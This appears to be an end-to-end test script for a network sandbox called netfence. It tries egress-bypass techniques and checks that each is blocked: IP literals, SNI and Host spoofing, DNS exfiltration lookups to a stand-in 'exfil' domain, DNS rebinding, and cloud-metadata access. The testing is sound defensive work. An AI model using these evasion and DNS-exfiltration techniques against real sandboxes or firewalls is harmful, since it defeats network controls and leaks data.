#!/usr/bin/env bash
# Bypass attempts against `netfence run` (SPEC 1.3-1.5; peers.md section 5): IP literals, SNI and
# Host spoofing, names sharing an allowed name's address, DNS to other resolvers and over TCP
# (nothing may leave the sandbox for a name that is not allowed), DNS rebinding, the always-deny
# set (metadata, the host's own addresses and loopback) and deny_net precedence, over IPv4 and
# IPv6. Each case checks who answered (every server answers with its identity), which servers
# saw a connection at all, and what dnsmasq (the upstream) was asked.
#
# Usage: run_bypass_test.sh path/to/netfence (as root; ctest e2e.run_bypass)
NF=$(readlink -f "${1:?usage: $0 path/to/netfence}")
: "${NETFENCE_SOURCE_DIR:=$(cd "$(dirname "$0")/../.." && pwd)}"
source "$NETFENCE_SOURCE_DIR/tests/e2e/lib/world.sh"
[ "$(id -u)" -eq 0 ] || { echo "run_bypass: needs root (network namespaces)"; exit 1; }
world_up || exit 1
world_host_self || exit 1

CURL="curl -s --max-time 5"
DIG="dig +time=2 +tries=1"
A=(--allow-net api.example.com)
# A request through openssl s_client: connect to $1, SNI $2, Host $2.
sclient='printf "GET / HTTP/1.0\r\nHost: %s\r\n\r\n" "$2" | timeout 5 openssl s_client -quiet -connect "$1" -servername "$2" 2>/dev/null'

# --- IP literals to addresses no rule allows --------------------------------------------------
mark_logs
out=$(nf "${A[@]}" -- $CURL -i http://203.0.113.20/)
check_has "IP literal v4 :80: netfence's 403" "$out" "403 Forbidden"
check_not_served "IP literal v4 :80: evil not reached" "$out" evil
out=$(nf "${A[@]}" -- $CURL -gi 'http://[2001:db8:2::20]/')
check_has "IP literal v6 :80: netfence's 403" "$out" "403 Forbidden"
check_not_served "IP literal v6 :80: evil not reached" "$out" evil
out=$(nf "${A[@]}" -- sh -c "$CURL -k https://203.0.113.20/; $CURL -gk 'https://[2001:db8:2::20]/'; echo EXIT:\$?")
check_not_served "IP literal :443 (no SNI), v4 and v6: evil not reached" "$out" evil
check_lacks "IP literal :443 (no SNI): curl fails" "$out" "EXIT:0"
out=$(nf "${A[@]}" -- $CURL http://10.1.2.3/)
check_not_served "IP literal to a private address (10.1.2.3) denied" "$out" private
check_eq "IP literals: no server saw a connection" "$(conns_since)" ""

# --- SNI spoofing: allowed name, attacker's address ------------------------------------------
mark_logs
out=$(nf "${A[@]}" -- sh -c "$sclient" sh 203.0.113.20:443 api.example.com)
check_has "SNI spoof (openssl, v4): netfence dialed the name, good answered" "$out" "good api.example.com"
check_not_served "SNI spoof (openssl, v4): evil not reached" "$out" evil
out=$(nf "${A[@]}" -- sh -c "$sclient" sh '[2001:db8:2::20]:443' api.example.com)
check_has "SNI spoof (openssl, v6): good answered" "$out" "good api.example.com"
check_not_served "SNI spoof (openssl, v6): evil not reached" "$out" evil
out=$(nf "${A[@]}" -- $CURL -k --resolve api.example.com:443:203.0.113.20 https://api.example.com/)
check_eq "SNI spoof (curl --resolve, v4): good answered" "$out" "good api.example.com"
out=$(nf "${A[@]}" -- $CURL -k --resolve 'api.example.com:443:[2001:db8:2::20]' https://api.example.com/)
check_eq "SNI spoof (curl --resolve, v6): good answered" "$out" "good api.example.com"
check_log "SNI spoof: the log names the SNI and what netfence dialed (the name's address)" \
  '"event":"connect".*"dst":"2001:db8:2::20","port":443,"name":"api.example.com","name_source":"sni","verdict":"allow".*"dialed":"(\[2001:db8:2::10\]|203\.0\.113\.10):443"' 
check_eq "SNI spoof: evil never saw a connection" "$(conns_since evil)" ""

# --- Host spoofing on port 80 -----------------------------------------------------------------
mark_logs
out=$(nf "${A[@]}" -- $CURL -H 'Host: api.example.com' http://203.0.113.20/)
check_eq "Host spoof (v4): good answered" "$out" "good api.example.com"
out=$(nf "${A[@]}" -- $CURL -g -H 'Host: api.example.com' 'http://[2001:db8:2::20]/')
check_eq "Host spoof (v6): good answered" "$out" "good api.example.com"
out=$(nf "${A[@]}" -- $CURL --resolve api.example.com:80:203.0.113.20 http://api.example.com/)
check_eq "Host spoof (curl --resolve :80): good answered" "$out" "good api.example.com"
out=$(nf "${A[@]}" -- $CURL -x http://203.0.113.20:80 http://api.example.com/)
check_eq "Host spoof (absolute-form target via a 'proxy' at evil): good answered" "$out" "good api.example.com"
check_eq "Host spoof: evil never saw a connection" "$(conns_since evil)" ""

# --- Another name on an allowed name's address (shared CDN address) ---------------------------
# www.example.com has the same addresses as api.example.com; only api.example.com is allowed.
# After a DNS lookup of api.example.com its address is "learned": the connection is dialed at
# once, and first bytes naming another name must cut it before they reach the server.
mark_logs
out=$(nf "${A[@]}" -- sh -c "$DIG +short api.example.com >/dev/null; $CURL -i -H 'Host: www.example.com' http://api.example.com/")
check_has "shared address, Host www (v4): 403" "$out" "403 Forbidden"
check_not_served "shared address, Host www (v4): not served" "$out" good
out=$(nf "${A[@]}" -- sh -c "$DIG +short AAAA api.example.com >/dev/null; $CURL -6 -i -H 'Host: www.example.com' http://api.example.com/")
check_has "shared address, Host www (v6): 403" "$out" "403 Forbidden"
check_not_served "shared address, Host www (v6): not served" "$out" good
out=$(nf "${A[@]}" -- sh -c "$DIG +short api.example.com >/dev/null; $CURL -k --resolve www.example.com:443:203.0.113.10 https://www.example.com/; echo EXIT:\$?")
check_not_served "shared address, SNI www (v4): not served" "$out" good
check_lacks "shared address, SNI www (v4): curl fails" "$out" "EXIT:0"
out=$(nf "${A[@]}" -- sh -c "$DIG +short AAAA api.example.com >/dev/null; $W_PY $W_CLIENTS hello 2001:db8:2::10 443 www.example.com")
check_has "shared address, SNI www (v6, raw ClientHello): access_denied alert" "$out" "result=denied"
check_log "shared address: an inspect/deny event names www.example.com" \
  '"event":"inspect".*"name":"www.example.com".*"verdict":"deny"' 

# --- DNS: the sinkhole answers, nothing leaves for names that are not allowed ----------------
mark_logs
exfil="secret-$$.exfil.example.net"
out=$(nf "${A[@]}" -- sh -c "
  echo udp:\$($DIG +short evil.example.net)
  echo udp-aaaa:\$($DIG +short AAAA evil.example.net)
  echo other:\$($DIG +short @192.0.2.53 evil.example.net)
  echo other6:\$($DIG +short @2001:db8::53 AAAA evil.example.net)
  echo tcp:\$($DIG +tcp +short evil.example.net)
  echo tcp-other:\$($DIG +tcp +short @192.0.2.53 evil.example.net)
  echo tcp-other6:\$($DIG +tcp +short @2001:db8::53 evil.example.net)
  echo exfil:\$($DIG +short u.$exfil)\$($DIG +short +tcp t.$exfil)\$($DIG +short @192.0.2.53 o.$exfil)\$($DIG +short TXT x.$exfil):end
  $DIG TXT evil.example.net | grep -o 'status: [A-Z]*\|ANSWER: [0-9]*' | tr '\n' ' '; echo
  echo allowed:\$($DIG +short api.example.com)
  echo allowed6:\$($DIG +short AAAA api.example.com)
  echo allowed-tcp:\$($DIG +tcp +short api.example.com)
  echo allowed-other:\$($DIG +short @192.0.2.53 api.example.com)
  echo allowed-other6:\$($DIG +short @2001:db8::53 api.example.com)
  echo allowed-txt:\$($DIG +short TXT api.example.com)")
check_has "sinkhole: A over UDP -> 0.0.0.0" "$out" "udp:0.0.0.0"
check_has "sinkhole: AAAA -> ::" "$out" "udp-aaaa:::"
check_has "sinkhole: dig @192.0.2.53 (another resolver) -> 0.0.0.0" "$out" "other:0.0.0.0"
check_has "sinkhole: dig @2001:db8::53 AAAA (another resolver, v6) -> ::" "$out" "other6:::"
check_has "sinkhole: DNS over TCP -> 0.0.0.0" "$out" "tcp:0.0.0.0"
check_has "sinkhole: DNS over TCP to another resolver -> 0.0.0.0" "$out" "tcp-other:0.0.0.0"
check_has "sinkhole: DNS over TCP to another resolver (v6) -> 0.0.0.0" "$out" "tcp-other6:0.0.0.0"
check_has "sinkhole: exfil names answered 0.0.0.0 locally (udp, tcp, other server; TXT empty)" "$out" "exfil:0.0.0.00.0.0.00.0.0.0:end"
check_has "sinkhole: TXT for a blocked name -> NOERROR, no answer" "$out" "status: NOERROR ANSWER: 0"
check_has "allowed name over UDP" "$out" "allowed:203.0.113.10"
check_has "allowed name AAAA" "$out" "allowed6:2001:db8:2::10"
check_has "allowed name over TCP" "$out" "allowed-tcp:203.0.113.10"
check_has "allowed name via dig @192.0.2.53" "$out" "allowed-other:203.0.113.10"
check_has "allowed name via dig @2001:db8::53" "$out" "allowed-other6:203.0.113.10"
check_has "allowed name TXT relayed" "$out" "allowed-txt:\"txt-of-api\""
queries=$(dns_queries_since)
check_has "upstream saw the allowed name (control: the query log works)" "$queries" "api.example.com"
check_lacks "upstream never saw evil.example.net" "$queries" "evil.example.net"
check_lacks "upstream never saw the exfil names" "$queries" "exfil"

# --- DNS rebinding and names that resolve to forbidden addresses ------------------------------
mark_logs
R=(--allow-net rebind.example.com,meta.example.com,loop.example.com,self.example.com)
out=$(nf "${R[@]}" -- sh -c "$DIG +short rebind.example.com; $DIG +short meta.example.com; $DIG +short loop.example.com; $DIG +short self.example.com")
check_lacks "rebinding: DNS never hands out 10.1.2.3" "$out" "10.1.2.3"
check_lacks "rebinding: DNS never hands out 169.254.169.254" "$out" "169.254.169.254"
check_lacks "rebinding: DNS never hands out 127.0.0.1" "$out" "127.0.0.1"
check_lacks "rebinding: DNS never hands out the host's own address" "$out" "198.51.100.1"
out=$(nf "${R[@]}" -- sh -c "
  $CURL -H 'Host: rebind.example.com' http://203.0.113.20/
  $CURL -H 'Host: meta.example.com' http://203.0.113.20/
  $CURL -H 'Host: loop.example.com' http://203.0.113.20:8081/
  $CURL -H 'Host: self.example.com' http://203.0.113.20:8081/
  $CURL http://rebind.example.com/; $CURL http://meta.example.com/")
check_not_served "rebinding: a name resolving to 10.1.2.3 is not dialed" "$out" private
check_not_served "rebinding: a name resolving to 169.254.169.254 is not dialed" "$out" metadata
check_not_served "rebinding: names resolving to the host's loopback/own address are not dialed" "$out" hostself
check_not_served "rebinding: the spoofed-to address (evil) not reached either" "$out" evil
check_eq "rebinding: no server saw a connection" "$(conns_since)" ""

# --- Always-deny set, even in full-access mode ------------------------------------------------
mark_logs
out=$(nf -- sh -c "$CURL http://169.254.169.254/latest/meta-data/; $CURL -g 'http://[::ffff:169.254.169.254]/'; $CURL http://meta.example.com/; echo done")
check_not_served "full access: metadata 169.254.169.254 denied" "$out" metadata
check_eq "full access: metadata server never reached" "$(conns_since metadata)" ""
check_log "full access: metadata denial logged with reason always_deny" \
  '"dst":"169\.254\.169\.254".*"verdict":"deny".*"reason":"always_deny"' 
out=$(nf -- sh -c "$CURL http://198.51.100.1:8081/; $CURL -g 'http://[2001:db8:1::1]:8081/'; echo done")
check_not_served "full access: the host's own addresses are denied" "$out" hostself
check_eq "full access: host services never reached" "$(conns_since hostself)" ""

# --- Wildcards never match the apex ----------------------------------------------------------
mark_logs
W=(--allow-net '*.example.com')
out=$(nf "${W[@]}" -- sh -c "$CURL http://www.example.com/; $CURL -k https://www.example.com/; $CURL -k https://api.example.com/")
check_has "wildcard: www.example.com over http" "$out" "good www.example.com"
check_has "wildcard: api.example.com over https" "$out" "good api.example.com"
out=$(nf "${W[@]}" -- sh -c "echo dns:\$($DIG +short example.com); $CURL -i -H 'Host: example.com' http://203.0.113.20/; $W_PY $W_CLIENTS hello 203.0.113.20 443 example.com")
check_has "wildcard: apex example.com sinkholed" "$out" "dns:0.0.0.0"
check_has "wildcard: Host example.com gets 403" "$out" "403 Forbidden"
check_has "wildcard: SNI example.com gets access_denied" "$out" "result=denied"
check_eq "wildcard: evil never reached" "$(conns_since evil)" ""

# --- deny_net is checked first ----------------------------------------------------------------
mark_logs
D=(--allow-net '*.example.com' --deny-net www.example.com)
out=$(nf "${D[@]}" -- sh -c "
  echo dns:\$($DIG +short www.example.com)
  $CURL http://api.example.com/
  $CURL -i -H 'Host: www.example.com' http://203.0.113.20/
  $CURL -i -H 'Host: www.example.com' http://api.example.com/
  $CURL -k --resolve www.example.com:443:203.0.113.10 https://www.example.com/
  $CURL -k --resolve www.example.com:443:203.0.113.20 https://www.example.com/")
check_has "deny_net precedence: www.example.com sinkholed" "$out" "dns:0.0.0.0"
check_has "deny_net precedence: api.example.com still allowed" "$out" "good api.example.com"
check_lacks "deny_net precedence: www.example.com never served (Host or SNI, any address)" "$out" "good www.example.com"
check_has "deny_net precedence: 403 for Host www" "$out" "X-Netfence-Reason: deny_rule"
check_eq "deny_net precedence: evil never reached" "$(conns_since evil)" ""
check_log "deny_net precedence: logged with the deny rule" \
  '"name":"www\.example\.com".*"verdict":"deny","rule":"www\.example\.com","reason":"deny_rule"' 

mark_logs
out=$(nf --deny-net evil.example.net -- sh -c "
  echo dns:\$($DIG +short evil.example.net)
  $CURL -H 'Host: evil.example.net' http://203.0.113.20/
  $CURL -k --resolve evil.example.net:443:203.0.113.20 https://evil.example.net/
  $CURL http://other.example.org/")
check_has "full access minus a name: that name sinkholed" "$out" "dns:0.0.0.0"
check_lacks "full access minus a name: Host/SNI naming it denied" "$out" "evil evil.example.net"
check_has "full access minus a name: everything else works" "$out" "other other.example.org"
out=$(nf --deny-net 203.0.113.20,2001:db8:2::20 -- sh -c "$CURL http://evil.example.net/; $CURL -6 http://evil.example.net/; $CURL http://api.example.com/")
check_not_served "full access minus an address (v4 and v6): denied" "$out" evil
check_has "full access minus an address: everything else works" "$out" "good api.example.com"

# --- HTTP keep-alive: every request head is judged, not only the first (peers.md 5.22) --------
cat >"$W_DIR/keepalive.py" <<'PY'
import socket, sys
host, port, first, second = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
s = socket.create_connection((host, port), timeout=5)
s.sendall(f"GET / HTTP/1.1\r\nHost: {first}\r\n\r\n"
          f"GET / HTTP/1.1\r\nHost: {second}\r\n\r\n".encode())
data = b""
try:
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
except OSError:
    pass
print(data.decode(errors="replace"))
PY
chmod 644 "$W_DIR/keepalive.py"
# Learned-address path: the second head names a host the policy does not allow.
mark_logs
out=$(nf --allow-net api.example.com -- python3 "$W_DIR/keepalive.py" api.example.com 80 \
  api.example.com www.example.com)
check_has "keep-alive: the first request is served" "$out" "good api.example.com"
check_lacks "keep-alive: a later request naming a host not allowed is not served" "$out" \
  "good www.example.com"
check_log "keep-alive: the later head is denied in an inspect event" \
  '"event":"inspect".*"name":"www\.example\.com","name_source":"host","verdict":"deny"'
# Dialed-by-Host path (IP literal of evil, Host api): a later head may not switch hosts, even to
# one that is allowed, since the connection goes to the first host's server.
mark_logs
out=$(nf --allow-net api.example.com,other.example.org -- python3 "$W_DIR/keepalive.py" \
  203.0.113.20 80 api.example.com other.example.org)
check_has "keep-alive (dialed by Host): the first request reaches the named host" "$out" \
  "good api.example.com"
check_lacks "keep-alive (dialed by Host): a switched Host is not served" "$out" "other.example.org"
check_log "keep-alive (dialed by Host): logged as host_switch" '"event":"inspect".*"reason":"host_switch"'
check_eq "keep-alive: evil never reached" "$(conns_since evil)" ""

finish run_bypass
